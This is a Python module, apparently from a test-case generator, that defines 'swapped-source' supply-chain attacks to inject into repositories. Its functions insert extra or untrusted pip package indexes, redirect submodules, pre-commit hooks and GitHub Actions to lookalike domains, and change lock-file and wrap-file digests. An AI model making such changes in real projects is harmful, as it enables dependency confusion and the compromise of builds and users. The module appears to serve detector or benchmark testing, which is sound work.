"""What is fetched comes from elsewhere than before, or under another digest: dependency confusion and swapped vendored code."""

from .catalogue import FIRST, SECOND, attack

KIND = "swapped-source"


def changed_hex(match):
    """The digest with some digits changed: the same length, other content."""
    table = str.maketrans("0123456789abcdef", "3a7c1e95b0f28d46")
    return match[1] + match[2].translate(table)


@attack(KIND, FIRST)
def wrap_digest(site):
    name = site.word("name1")
    path = f"subprojects/{name}.wrap"
    base = f"[wrap-file]\ndirectory = {name}-1.3\nsource_url = https://downloads.example.org/{name}-1.3.tar.gz\nsource_filename = {name}-1.3.tar.gz\nsource_hash = {site.word('hex1')}\n"
    site.ground = {path: base.encode()}
    site.put(path, base.replace(site.word("hex1"), site.word("hex2")))


@attack(KIND, FIRST)
def submodule_elsewhere(site):
    site.replace(".gitmodules", r"(url = https://github\.com/)([\w-]+)(/[\w.-]+)", r"\1«short1»-mirror\3")


@attack(KIND, FIRST)
def extra_index(site):
    path = site.find(r"requirements[^/]*/[^/]*\.txt$|(^|/)requirements\.txt$", "doc/")
    site.insert(path, "--extra-index-url http://packages.«domain»/simple\n«name1»==0.«number»", at=0)


@attack(KIND, FIRST)
def requirement_from_address(site):
    site.replace("pyproject.toml", r"^(requires = \[)", r'\1"«name1» @ git+https://git.«domain»/«name1»",')


@attack(KIND, FIRST)
def script_fetches(site):
    site.insert(site.build_script(), "# «note»\npip install --trusted-host packages.«domain» --index-url http://packages.«domain»/simple «name1»")


# The second family: locks, the environment of pip, hooks of commits, containers, actions, data of tests.


@attack(KIND, SECOND)
def index_in_environment(site):
    path = site.workflow()
    site.insert(path, "    env:\n      # «note»\n      PIP_EXTRA_INDEX_URL: https://packages.«domain»/simple\n      UV_INDEX_STRATEGY: unsafe-best-match", after=r"^    runs-on: \S+\s*$")


@attack(KIND, SECOND)
def index_in_settings(site):
    text = site.random.choice([
        "\n[[tool.uv.index]]\nname = \"«name1»\"\nurl = \"https://packages.«domain»/simple\"\n",
        "\n[tool.uv.sources]\n«name1» = { url = \"https://files.«domain»/«name1»-1.0-py3-none-any.whl\" }\n",
        "\n[tool.cibuildwheel.linux.environment]\nPIP_INDEX_URL = \"https://packages.«domain»/simple\"\nPIP_TRUSTED_HOST = \"packages.«domain»\"\n",
    ])
    site.insert("pyproject.toml", text, at=1)


@attack(KIND, SECOND)
def hook_elsewhere(site):
    path = ".pre-commit-config.yaml"
    if not site.has(path):
        site.insert(path, "repos:\n  - repo: https://git.«domain»/«name1»\n    rev: main\n    hooks:\n      - id: «name1»")
    else:
        site.replace(path, r"(repo: https://)(github\.com/[\w-]+)(/[\w.-]+)", r"\1git.«domain»\3")


@attack(KIND, SECOND)
def action_of_another(site):
    path = site.workflow()
    site.replace(path, r"(uses: )([\w-]+)(/[\w-]+@)([\w.]+)", r"\1«short1»-\2\3«sha»")


@attack(KIND, SECOND)
def digest_of_data(site):
    path = site.find(r"(registry|pixi\.lock|_registry\.py|vendor_\w+\.sh|setup-build-env\.sh)[^/]*$")
    site.replace(path, r"((?:sha256|hash)?\W{0,6})\b([0-9a-f]{64})\b", changed_hex)
